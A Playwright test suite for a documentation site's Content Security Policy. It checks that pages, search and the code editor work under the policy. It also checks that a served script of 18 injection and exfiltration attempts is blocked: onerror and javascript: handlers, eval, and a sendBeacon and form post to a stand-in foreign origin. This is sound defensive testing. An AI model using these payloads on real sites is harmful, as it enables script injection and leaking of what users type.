"""The security policy in a real browser: pages work under it, and an attack does not."""

import re
import time

import pytest
from playwright.sync_api import Error

pytestmark = pytest.mark.slow

# Runs before any script of a page, and outlives instant loading.
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  violations.push(`${event.effectiveDirective} stops ${event.blockedURI} in ${event.sourceFile}`));
"""
# Served by the test from the site's own address: as script code, so that the policy applies to it,
# which it does not for what the test's own tool evaluates.
ATTACK = """
const attempts = {
  "inline script": () => {
    const script = document.createElement("script");
    script.textContent = "window.reached = true";
    document.body.append(script);
    return window.reached;
  },
  "script in HTML": () => {
    const place = document.createElement("div");
    place.innerHTML = "<img src='/nowhere.png' onerror='window.reached = true'>";
    document.body.append(place);
    return new Promise((resolve) => setTimeout(() => resolve(window.reached), 200));
  },
  "inline handler": () => {
    const place = document.createElement("p");
    place.setAttribute("onclick", "window.reached = true");
    document.body.append(place);
    place.click();
    return window.reached;
  },
  "script address": () => {
    const link = document.createElement("a");
    link.href = "javascript:window.reached = true";
    document.body.append(link);
    link.click();
    return new Promise((resolve) => setTimeout(() => resolve(window.reached), 200));
  },
  "eval": () => (0, eval)("true"),
  "new Function": () => new Function("return true")(),
  "text as a timer": () => new Promise((resolve) => {
    setTimeout("window.reached = true");
    setTimeout(() => resolve(window.reached), 100);
  }),
  "foreign script": () => load("script", "src", "FOREIGN/script.js"),
  "foreign style": () => load("link", "href", "FOREIGN/style.css", { rel: "stylesheet" }),
  "inline style element": () => {
    const style = document.createElement("style");
    style.textContent = "body { outline: 9px solid red }";
    document.body.append(style);
    return getComputedStyle(document.body).outlineWidth === "9px";
  },
  "foreign page ahead": () => load("link", "href", "FOREIGN/ahead", { rel: "prefetch" }),
  "foreign picture": () => load("img", "src", "FOREIGN/picture.svg"),
  "foreign frame": () => load("iframe", "src", "FOREIGN/"),
  "foreign fetch": () => fetch("FOREIGN/data.json", { mode: "no-cors" }).then(() => true),
  "foreign beacon": () => { navigator.sendBeacon("FOREIGN/beacon", "what the reader wrote"); },
  "worker from text": () => new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => resolve(true);
    worker.onerror = () => resolve(false);
  }),
  "new base address": () => {
    const base = document.createElement("base");
    base.href = "FOREIGN/";
    document.head.append(base);
    return document.baseURI.startsWith("FOREIGN");
  },
  "form to elsewhere": () => {
    const form = document.createElement("form");
    form.action = "FOREIGN/form";
    document.body.append(form);
    form.submit();
    return new Promise((resolve) => setTimeout(() => resolve(false), 500));
  },
};

function load(tag, attribute, address, others = {}) {
  return new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), others);
    element.onload = () => resolve(true);
    element.onerror = () => resolve(false);
    element.setAttribute(attribute, address);
    document.body.append(element);
    if (tag === "iframe") setTimeout(() => resolve(false), 300); // a stopped frame still fires load
    if (tag === "iframe") element.onload = null;
  });
}

window.attacked = (async () => {
  const reached = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    window.reached = false;
    try { reached[name] = Boolean(await attempt()); } catch { reached[name] = false; }
  }
  return reached;
})();
"""


FOREIGN = "http://127.0.0.1:9"  # another port is another origin


def attack(page, address: str) -> dict[str, bool]:
    """Which attempts reached what they wanted, each tried by a script that the policy takes for ours."""
    page.route("**/attack.js", lambda route: route.fulfill(
        body=ATTACK.replace("FOREIGN", FOREIGN), content_type="text/javascript"))
    page.goto(f"{address}/optimization/adam/")
    page.evaluate("""new Promise((resolve) => {
        const script = Object.assign(document.createElement("script"), {src: "/attack.js", onload: resolve});
        document.head.append(script);
    })""")
    return page.evaluate("attacked")


@pytest.fixture
def context(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(WATCH)
    yield context
    context.close()


@pytest.mark.parametrize("elsewhere", ["http://example.com/", "https://192.0.2.1/", "http://localhost:8000/"])
def test_the_browser_of_these_tests_reaches_nothing_else(context, elsewhere):
    """So that no test depends on the net, and none passes because a stranger answers."""
    with pytest.raises(Error, match="ERR_NAME_NOT_RESOLVED"):
        context.new_page().goto(elsewhere)


def test_the_page_for_wrong_addresses_works_under_the_policy(context, address, site):
    """A server shows it at any depth, so it names its files from the root."""
    page = context.new_page()
    text = (site / "404.html").read_text(encoding="utf-8")
    root = re.search(r'href="(/[^"]*?)assets/styles', text)[1]  # of the address that the site was built for
    text = text.replace(f'"{root}', '"/')
    page.route("**/deep/wrong/address/",
               lambda route: route.fulfill(status=404, body=text, content_type="text/html"))
    page.goto(f"{address}/deep/wrong/address/", wait_until="networkidle")
    assert page.evaluate("violations") == []
    assert page.evaluate("typeof __md_get") == "function" and page.evaluate("typeof document$") == "object"


def test_instant_loading_and_search_work_under_the_policy(context, address):
    page = context.new_page()
    page.goto(f"{address}/optimization/")
    page.evaluate("window.stillHere = true")
    page.locator("article a", has_text="How does Adam work?").hover()  # fetched ahead
    page.locator("article a", has_text="How does Adam work?").click()
    page.wait_for_selector("article h1:has-text('How does Adam work?')")
    page.keyboard.press("f")
    page.keyboard.type("k-means")
    page.wait_for_selector(".md-search-result__link")
    page.locator("[data-md-component=search-share]").click()
    page.keyboard.press("Escape")
    page.locator("label.md-header__button[title]:visible").first.click()
    page.go_back()
    page.wait_for_selector("article h1:has-text('Optimization')")
    assert page.evaluate("window.stillHere") and page.evaluate("violations") == []


def answer_foreign_requests(context) -> list[str]:
    """Answer what gets through to the other origin, so that it would succeed, and note its address."""
    kinds = {"svg": "image/svg+xml", "css": "text/css", "js": "text/javascript", "json": "application/json"}
    arrived = []

    def answer(route):
        address = route.request.url
        arrived.append(address.removeprefix(FOREIGN))
        if address.endswith("/form?"):
            route.fulfill(status=204)  # nothing to show: the browser stays on the page
            return
        body = '<svg xmlns="http://www.w3.org/2000/svg"/>' if address.endswith(".svg") else ""
        route.fulfill(body=body, content_type=kinds.get(address.rpartition(".")[2], "text/html"))

    context.route(f"{FOREIGN}/**", answer)
    return arrived


def test_nothing_that_an_attack_would_try_goes_through(context, address):
    page = context.new_page()
    arrived = answer_foreign_requests(context)
    reached = attack(page, address)
    assert len(reached) == 18
    assert [name for name, success in reached.items() if success] == []
    assert arrived == []
    stopped = {violation.split()[0] for violation in page.evaluate("violations")}
    assert stopped >= {"script-src", "script-src-elem", "script-src-attr", "style-src-elem", "img-src",
                       "frame-src", "connect-src", "worker-src", "base-uri", "form-action"}


def test_the_attack_would_succeed_without_the_policy(browser, address):
    """So that the test above cannot pass because the attempts themselves are wrong."""
    context = browser.new_context(bypass_csp=True)
    arrived = answer_foreign_requests(context)
    reached = attack(context.new_page(), address)
    # These three leave no trace in the page itself, but at the other end.
    silent = {"foreign frame", "foreign beacon", "form to elsewhere"}
    assert {name for name, success in reached.items() if not success} == silent
    assert {"/", "/beacon", "/form"} <= {url.partition("?")[0] for url in arrived}
    context.close()


@pytest.mark.parametrize(("system", "stored", "expected"), [
    ("dark", None, "slate"),
    ("light", None, "default"),
    ("light", '{"index":2,"color":{"media":"(prefers-color-scheme: dark)","scheme":"slate"}}', "slate"),
    ("dark", '{"index":1,"color":{"media":"(prefers-color-scheme: light)","scheme":"default"}}', "default"),
    ("dark", '{"index":0,"color":{"media":"(prefers-color-scheme)","scheme":"default"}}', "slate"),
    ("dark", '{"index":9,"color":', "slate"),
])
def test_no_frame_is_painted_in_the_wrong_palette(browser, address, system, stored, expected):
    context = browser.new_context(color_scheme=system)
    if stored:
        context.add_init_script(f"localStorage.setItem('/.__palette', {stored!r})")
    context.add_init_script("""
        window.painted = [];
        const look = () => {
          if (document.body) painted.push(document.body.dataset.mdColorScheme);
          requestAnimationFrame(look);
        };
        requestAnimationFrame(look);""")
    page = context.new_page()

    def slowly(route):
        time.sleep(0.3)
        route.continue_()

    # Everything that comes after the first lines of the body is late, as on a slow line.
    page.route("**/assets/javascripts/*.js", slowly)
    page.route("**/assets/inline/*.js", slowly)
    page.goto(f"{address}/optimization/adam/")
    painted = page.evaluate("painted")
    assert len(painted) > 3 and set(painted) == {expected}
    context.close()


@pytest.mark.parametrize("storage", [
    "Object.defineProperty(window, 'localStorage', {get() { throw new DOMException('', 'SecurityError'); }})",
    "localStorage.setItem('/.__palette', '{\"index\":')",
])
def test_forbidden_or_damaged_storage_stops_nothing(browser, address, storage):
    context = browser.new_context(color_scheme="dark", viewport={"width": 1280, "height": 900})
    context.add_init_script(storage)
    page = context.new_page()
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"{address}/optimization/adam/")
    page.keyboard.press("f")
    page.keyboard.type("k-means")
    page.wait_for_selector(".md-search-result__link")
    assert page.evaluate("document.body.dataset.mdColorScheme") == "slate"
    assert errors == []
    context.close()


def test_code_runs_and_is_edited_under_the_policy(context, address):
    page = context.new_page()
    page.goto(f"{address}/optimization/adam/")
    page.get_by_role("button", name="Edit").first.click()
    page.wait_for_selector(".cm-content")
    page.get_by_role("button", name="Run").first.click()
    page.locator(".guide-printed", has_text=re.compile(r"\d")).first.wait_for(timeout=60_000)
    assert page.evaluate("violations") == []
